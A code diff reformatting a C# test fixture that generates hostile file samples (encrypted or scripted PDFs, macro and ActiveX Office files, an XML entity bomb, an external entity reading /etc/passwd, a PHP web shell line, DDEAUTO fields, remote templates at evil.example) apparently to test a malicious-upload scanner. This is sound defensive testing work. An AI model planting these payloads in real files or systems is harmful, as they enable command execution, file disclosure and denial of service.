@@ -10,18 +10,24 @@ internal static class HostileFiles
 {
     private const string WordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
     private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];
-    private static readonly string Bomb = $"<!DOCTYPE w [<!ENTITY a \"{new string('a', 1000)}\">{string.Concat(Enumerable.Range(0, 9).Select(i => $"<!ENTITY b{i} \"{string.Concat(Enumerable.Repeat(i == 0 ? "&a;" : $"&b{i - 1};", 10))}\">"))}]><w>&b8;</w>";
+    private static readonly string Bomb =
+        $"<!DOCTYPE w [<!ENTITY a \"{new string('a', 1000)}\">"
+        + string.Concat(Enumerable.Range(0, 9).Select(i =>
+            $"<!ENTITY b{i} \"{string.Concat(Enumerable.Repeat(i == 0 ? "&a;" : $"&b{i - 1};", 10))}\">"))
+        + "]><w>&b8;</w>";
 
     /// <summary>All of them, by name.</summary>
-    public static IReadOnlyDictionary<string, (ProblemCode Code, byte[] Bytes)> All { get; } = Pdfs().Concat(Packages()).Concat(Pictures()).Concat(Texts())
-        .Concat(Others()).Concat(Mails()).ToDictionary(f => f.Name, f => (f.Code, f.Bytes));
+    public static IReadOnlyDictionary<string, (ProblemCode Code, byte[] Bytes)> All { get; } =
+        Pdfs().Concat(Packages()).Concat(Pictures()).Concat(Texts()).Concat(Others()).Concat(Mails())
+            .ToDictionary(f => f.Name, f => (f.Code, f.Bytes));
 
     private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Pdfs()
     {
         var good = Pdf.WithText("A note.");
         yield return ("pdf encrypted", ProblemCode.F13, new Pdf().Page("").Trailer("/Encrypt << /Filter /Standard /V 2 >>").Bytes());
         yield return ("pdf encrypted, name escaped", ProblemCode.F13, new Pdf().Page("").Trailer("/#45ncrypt 9 0 R").Bytes());
-        yield return ("pdf with JavaScript", ProblemCode.F11, new Pdf().Page("").Add("<< /S /JavaScript /JS (app.alert\\(1\\)) >>").Bytes());
+        yield return ("pdf with JavaScript", ProblemCode.F11,
+            new Pdf().Page("").Add("<< /S /JavaScript /JS (app.alert\\(1\\)) >>").Bytes());
         yield return ("pdf with JavaScript, name escaped", ProblemCode.F11, new Pdf().Page("").Add("<< /S /J#61vaScript >>").Bytes());
         yield return ("pdf that starts a program", ProblemCode.F11, new Pdf().Page("").Add("<</S/Launch/F(cmd.exe)>>").Bytes());
         yield return ("pdf with a file in it", ProblemCode.F11, new Pdf().Page("").AddStream("/Type /EmbeddedFile", [1, 2]).Bytes());
@@ -35,9 +41,11 @@ internal static class HostileFiles
         yield return ("pdf with a stream that never ends", ProblemCode.F18, "%PDF-1.7\n1 0 obj << >> stream\nxx %%EOF"u8.ToArray());
         yield return ("pdf with a string that never ends", ProblemCode.F18, "%PDF-1.7\n1 0 obj ((((((\n%%EOF"u8.ToArray());
         yield return ("pdf with objects packed by a dictionary nobody has", ProblemCode.F18,
-            [.. "%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n"u8, 0x78, 0xBB, 1, 2, 3, 4, .. "\nendstream endobj\n%%EOF"u8]);
+            [.. "%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n"u8, 0x78, 0xBB, 1, 2, 3, 4,
+                .. "\nendstream endobj\n%%EOF"u8]);
         yield return ("pdf that is a zip too", ProblemCode.F16, [.. good, .. new Package().Part("a.class", "x").Bytes()]);
-        yield return ("pdf with a zip in a comment", ProblemCode.F16, [.. good[..^6], .. "%"u8, .. new Package().Part("a", "x").Bytes(), .. "\n%%EOF\n"u8]);
+        yield return ("pdf with a zip in a comment", ProblemCode.F16,
+            [.. good[..^6], .. "%"u8, .. new Package().Part("a", "x").Bytes(), .. "\n%%EOF\n"u8]);
         yield return ("pdf that is a page too", ProblemCode.F16, [.. "%PDF-1.7\n%<script>alert(1)</script>\n"u8, .. good]);
         yield return ("pdf with a program behind", ProblemCode.F16, [.. good, .. "MZ"u8, .. new byte[4000]]);
         yield return ("pdf behind other bytes", ProblemCode.F10, [1, 2, 3, .. good]);
@@ -47,28 +55,38 @@ internal static class HostileFiles
     {
         var docx = Package.Docx("A note.").Bytes();
         yield return ("docx with macros", ProblemCode.F11, Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes());
-        yield return ("docm called docx", ProblemCode.F11, Package.Docx("x").Types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml").Bytes());
+        yield return ("docm called docx", ProblemCode.F11,
+            Package.Docx("x").Types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml").Bytes());
         yield return ("docx with the type of macros only", ProblemCode.F11,
-            Package.Docx("x").Types("/word/document.xml", WordMain, """<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>""").Bytes());
-        yield return ("docx with an embedded object", ProblemCode.F11, Package.Docx("x").Part("word/embeddings/oleObject1.bin", [1]).Bytes());
+            Package.Docx("x").Types("/word/document.xml", WordMain,
+                """<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>""").Bytes());
+        yield return ("docx with an embedded object", ProblemCode.F11,
+            Package.Docx("x").Part("word/embeddings/oleObject1.bin", [1]).Bytes());
         yield return ("docx with ActiveX", ProblemCode.F11, Package.Docx("x").Part("word/activeX/activeX1.xml", "<a/>").Bytes());
         yield return ("docx with a template elsewhere", ProblemCode.F11,
-            Package.Docx("x").Part("word/_rels/settings.xml.rels", Package.Relations("attachedTemplate", "https://evil.example/t.dotm", "External")).Bytes());
+            Package.Docx("x").Part("word/_rels/settings.xml.rels",
+                Package.Relations("attachedTemplate", "https://evil.example/t.dotm", "External")).Bytes());
         yield return ("docx with a picture elsewhere", ProblemCode.F11,
-            Package.Docx("x").Part("word/_rels/document.xml.rels", Package.Relations("image", "https://evil.example/i.png", "External")).Bytes());
+            Package.Docx("x").Part("word/_rels/document.xml.rels",
+                Package.Relations("image", "https://evil.example/i.png", "External")).Bytes());
         yield return ("docx with a field that starts a program", ProblemCode.F11, Package.Docx("x").Part("word/document.xml",
             """<w:document xmlns:w="urn:w"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText></w:document>""").Bytes());
-        yield return ("xlsx with a link to a program", ProblemCode.F11, Package.Xlsx("x").Part("xl/externalLinks/externalLink1.xml", "<a/>").Bytes());
+        yield return ("xlsx with a link to a program", ProblemCode.F11,
+            Package.Xlsx("x").Part("xl/externalLinks/externalLink1.xml", "<a/>").Bytes());
         yield return ("xlsx with old macros", ProblemCode.F11, Package.Xlsx("x").Part("xl/macrosheets/sheet1.xml", "<a/>").Bytes());
-        yield return ("docx with a program as picture", ProblemCode.F12, Package.Docx("x").Part("word/media/image1.png", "MZ..........."u8.ToArray()).Bytes());
+        yield return ("docx with a program as picture", ProblemCode.F12,
+            Package.Docx("x").Part("word/media/image1.png", "MZ..........."u8.ToArray()).Bytes());
         yield return ("docx with an entity bomb", ProblemCode.F15, Package.Docx("x").Part("word/document.xml", Bomb).Bytes());
         yield return ("docx with an external entity", ProblemCode.F15,
             Package.Docx("x").Part("word/document.xml", "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w>&x;</w>").Bytes());
         yield return ("docx whose types are a bomb", ProblemCode.F15, Package.Docx("x").Part("[Content_Types].xml", Bomb).Bytes());
-        yield return ("docx with a part of 400 MB", ProblemCode.F15, Package.Docx("x").Part("word/media/big.bin", new byte[400_000_000]).Bytes());
-        yield return ("docx with XML of 100 MB", ProblemCode.F15, Package.Docx("x").Part("word/big.xml", $"<a>{new string(' ', 100_000_000)}</a>").Bytes());
+        yield return ("docx with a part of 400 MB", ProblemCode.F15,
+            Package.Docx("x").Part("word/media/big.bin", new byte[400_000_000]).Bytes());
+        yield return ("docx with XML of 100 MB", ProblemCode.F15,
+            Package.Docx("x").Part("word/big.xml", $"<a>{new string(' ', 100_000_000)}</a>").Bytes());
         yield return ("docx with overlapping parts", ProblemCode.F15, Overlapping(Package.Docx("x").Part("b.bin", "12345").Bytes()));
-        yield return ("docx with 5000 parts", ProblemCode.F15, Enumerable.Range(0, 5000).Aggregate(Package.Docx("x"), (p, i) => p.Again($"p{i}", "")).Bytes());
+        yield return ("docx with 5000 parts", ProblemCode.F15,
+            Enumerable.Range(0, 5000).Aggregate(Package.Docx("x"), (p, i) => p.Again($"p{i}", "")).Bytes());
         yield return ("docx with a password on its parts", ProblemCode.F13, Flagged(docx));
         yield return ("docx with the same part twice", ProblemCode.F16, Package.Docx("x").Again("word/document.xml", "<other/>").Bytes());
         yield return ("docx with a part outside", ProblemCode.F16, Package.Docx("x").Part("../../evil.xml", "<a/>").Bytes());
@@ -76,10 +94,15 @@ internal static class HostileFiles
         yield return ("docx with bytes behind", ProblemCode.F16, [.. docx, .. "<script>alert(1)</script>"u8]);
         yield return ("docx cut off", ProblemCode.F18, docx[..^30]);
         yield return ("docx with broken XML", ProblemCode.F18, Package.Docx("x").Part("word/document.xml", "<w><w>").Bytes());
-        yield return ("pptx", ProblemCode.F10, Package.Docx("x").Types("/p.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml").Bytes());
+        yield return ("pptx", ProblemCode.F10,
+            Package.Docx("x").Types("/p.xml",
+                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml").Bytes());
         yield return ("odt with macros", ProblemCode.F11, Package.Odt("x").Part("Basic/Standard/script-lb.xml", "<a/>").Bytes());
-        yield return ("odt with a script that listens", ProblemCode.F11, Package.Odt("x").Part("content.xml", """<a xmlns:script="urn:s"><script:event-listener/></a>""").Bytes());
-        yield return ("odt with a password", ProblemCode.F13, Package.Odt("x").Part("META-INF/manifest.xml", """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""").Bytes());
+        yield return ("odt with a script that listens", ProblemCode.F11,
+            Package.Odt("x").Part("content.xml", """<a xmlns:script="urn:s"><script:event-listener/></a>""").Bytes());
+        yield return ("odt with a password", ProblemCode.F13,
+            Package.Odt("x").Part("META-INF/manifest.xml",
+                """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""").Bytes());
         yield return ("ods", ProblemCode.F10, new Package().Stored("mimetype", "application/vnd.oasis.opendocument.spreadsheet").Bytes());
         yield return ("zip", ProblemCode.F14, new Package().Part("note.pdf", "x").Bytes());
         yield return ("jar", ProblemCode.F14, new Package().Part("META-INF/MANIFEST.MF", "x").Part("a.class", "x").Bytes());
@@ -115,7 +138,8 @@ internal static class HostileFiles
     {
         yield return ("html", ProblemCode.F10, "<!DOCTYPE html><p>"u8.ToArray());
         yield return ("html behind spaces", ProblemCode.F10, "\n\n   <HTML><script>"u8.ToArray());
-        yield return ("html in UTF-16", ProblemCode.F10, [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<html><script>x</script>")]);
+        yield return ("html in UTF-16", ProblemCode.F10,
+            [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<html><script>x</script>")]);
         yield return ("xml with an entity bomb", ProblemCode.F15, Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?>{Bomb}"));
         yield return ("rtf", ProblemCode.F10, @"{\rtf1\ansi {\object\objocx}}"u8.ToArray());
         yield return ("php", ProblemCode.F12, "<?php system($_GET['c']);"u8.ToArray());
@@ -136,8 +160,10 @@ internal static class HostileFiles
         yield return ("java class", ProblemCode.F12, [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]);
         yield return ("windows shortcut", ProblemCode.F12, [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0]);
         yield return ("old word", ProblemCode.F10, [.. Ole, .. Encoding.Unicode.GetBytes("WordDocument")]);
-        yield return ("old excel with macros", ProblemCode.F11, [.. Ole, .. new byte[70_000], .. Encoding.Unicode.GetBytes("_VBA_PROJECT")]);
-        yield return ("docx with a password", ProblemCode.F13, [.. Ole, .. new byte[65_530], .. Encoding.Unicode.GetBytes("EncryptedPackage")]);
+        yield return ("old excel with macros", ProblemCode.F11,
+            [.. Ole, .. new byte[70_000], .. Encoding.Unicode.GetBytes("_VBA_PROJECT")]);
+        yield return ("docx with a password", ProblemCode.F13,
+            [.. Ole, .. new byte[65_530], .. Encoding.Unicode.GetBytes("EncryptedPackage")]);
         yield return ("rar", ProblemCode.F14, [.. "Rar!"u8, 0x1A, 7, 0]);
         yield return ("7z", ProblemCode.F14, [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0]);
         yield return ("gzip", ProblemCode.F14, Gzip(new byte[100]));
@@ -151,10 +177,12 @@ internal static class HostileFiles
         yield return ("mail with a program", ProblemCode.F12, Mail("octet-stream", [.. "MZ"u8, .. new byte[50]]));
         yield return ("mail with a program by name", ProblemCode.F12, Mail("octet-stream; name=\"note.pdf.exe\"", "x"u8.ToArray()));
         yield return ("mail with an archive", ProblemCode.F14, Mail("zip", new Package().Part("a", "x").Bytes()));
-        yield return ("mail with macros", ProblemCode.F11, Mail("octet-stream", Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes()));
+        yield return ("mail with macros", ProblemCode.F11,
+            Mail("octet-stream", Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes()));
         yield return ("mail in a mail in a mail in a mail", ProblemCode.F15,
             Enumerable.Range(0, 4).Aggregate("x"u8.ToArray(), (inner, _) => Mail("octet-stream", inner)));
-        yield return ("mail with broken base64", ProblemCode.F18, Encoding.ASCII.GetBytes(Head + "Content-Transfer-Encoding: base64\r\n\r\n%%%\r\n"));
+        yield return ("mail with broken base64", ProblemCode.F18,
+            Encoding.ASCII.GetBytes(Head + "Content-Transfer-Encoding: base64\r\n\r\n%%%\r\n"));
     }
 
     private const string Head = "From: mission@state.example\r\nTo: hub@hub.example\r\nSubject: note\r\nMIME-Version: 1.0\r\n";
@@ -162,7 +190,8 @@ internal static class HostileFiles
     /// <summary>A mail with one attachment.</summary>
     public static byte[] Mail(string type, byte[] attachment) => Encoding.ASCII.GetBytes(
         $"{Head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease find a note.\r\n--b\r\n"
-        + $"Content-Type: application/{type}\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(attachment, Base64FormattingOptions.InsertLineBreaks)}\r\n--b--\r\n");
+        + $"Content-Type: application/{type}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        + $"{Convert.ToBase64String(attachment, Base64FormattingOptions.InsertLineBreaks)}\r\n--b--\r\n");
 
     // The directory's last entry points at the first one's bytes.
     private static byte[] Overlapping(byte[] zip)
